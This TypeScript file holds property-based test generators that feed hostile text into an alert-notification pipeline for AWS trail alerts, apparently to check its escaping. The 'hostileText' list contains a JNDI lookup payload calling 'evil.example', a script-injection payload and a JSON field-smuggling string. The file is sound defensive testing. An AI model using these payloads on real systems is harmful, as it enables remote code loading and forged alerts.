import fc from 'fast-check';
import type { Alert } from '../../../../lib/core/alert/alert';
import type { Delivery } from '../../../../lib/core/alert/message/delivery';
import type { MessageSender } from '../../../../lib/core/alert/message/message-sender';
import { type Notice, toNotice } from '../../../../lib/core/alert/sink/notice';
import { SEVERITIES } from '../../../../lib/core/rule/rule';
import { sampleAlert } from '../sample-alert';

/** When every message of these tests was published. */
export const PUBLISHED_AT = '2026-11-20T03:00:01.234Z';

/** Texts that a caller may choose: anything, markup and addresses among it, short and long. */
const hostileText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom(
    '<!channel> *bold* _x_ <https://evil.example|click>',
    'https://a.b.c.d.e.f.evil.example/path?x=1',
    'a://............................................',
    '"},"Severity":{"Label":"INFORMATIONAL"},{"',
    '{{config}} %{jndi:ldap://evil.example} [code]<script>alert(1)</script>[/code]',
    '\u202e\u0000\u2028AKIAIOSFODNN7EXAMPLE',
    '\ud83d\ude00'.repeat(1_000),
    'x.y'.repeat(1_500),
  ),
);

/** Any alert that a rule may raise. */
export const arbitraryAlert: fc.Arbitrary<Alert> = fc
  .record({
    id: fc.stringMatching(/^[0-9a-f]{64}$/),
    title: hostileText,
    summary: hostileText,
    severity: fc.constantFrom(...SEVERITIES),
    tags: fc.array(fc.oneof(hostileText, fc.constantFrom('attack.t1562.008', 'attack.defense_evasion')), {
      maxLength: 12,
    }),
    eventID: hostileText,
    eventTime: fc.oneof(fc.constantFrom('2026-11-20T03:00:00Z', '', 'yesterday'), hostileText),
    eventName: hostileText,
    eventSource: hostileText,
    awsRegion: fc.oneof(fc.constantFrom('eu-west-1', 'us-gov-west-1', 'cn-north-1', ''), hostileText),
    recipientAccountId: fc.oneof(fc.constantFrom('111122223333', ''), hostileText),
    resources: fc.array(fc.oneof(hostileText, fc.constant('arn:aws:s3:::logs')), { maxLength: 20 }),
    userAgent: hostileText,
    sourceIPAddress: fc.oneof(fc.constantFrom('203.0.113.7', '2001:db8::1', 'AWS Internal'), hostileText),
    actorName: hostileText,
    record: fc.dictionary(fc.string({ maxLength: 10 }), hostileText, { maxKeys: 8 }),
  })
  .map(({ actorName, ...members }) => ({
    ...sampleAlert(),
    ...members,
    actor: { ...sampleAlert().actor, name: actorName },
  }));

const arbitrarySender: fc.Arbitrary<MessageSender> = fc.constantFrom(
  { kind: 'trailwatch' },
  { kind: 'cloudwatch' },
  { kind: 'unknown', reason: 'unsigned' },
);

/** Any message of an alert topic: mostly alerts, and whatever else was published. */
export const arbitraryNotice: fc.Arbitrary<Notice> = fc
  .record({
    message: fc.oneof(
      { weight: 4, arbitrary: arbitraryAlert.map((alert) => JSON.stringify(alert)) },
      { weight: 1, arbitrary: fc.oneof(hostileText, fc.json(), fc.constant('x'.repeat(300_000))) },
    ),
    subject: fc.option(hostileText, { nil: undefined }),
    firstSteps: fc.array(hostileText, { maxLength: 12 }),
    sender: arbitrarySender,
  })
  .map(({ message, subject, firstSteps, sender }) =>
    toNotice(deliveryOf(message, { subject, firstSteps }), sender),
  );

/** A message as SNS delivers it. */
export function deliveryOf(
  message: string,
  { subject, firstSteps = [] }: { readonly subject?: string; readonly firstSteps?: readonly string[] } = {},
): Delivery {
  return {
    ...(subject === undefined ? {} : { subject }),
    message,
    attributes: { ruleName: 'trail-stopped', firstSteps: JSON.stringify(firstSteps) },
    topicArn: 'arn:aws:sns:eu-west-1:111122223333:alerts',
    publishedAt: PUBLISHED_AT,
  };
}

/** The notice of the sample alert, or of another one. */
export function noticeOf(
  alert: Alert = sampleAlert(),
  sender: MessageSender = { kind: 'trailwatch' },
): Notice {
  return toNotice(deliveryOf(JSON.stringify(alert), { firstSteps: ['Start it again.'] }), sender);
}
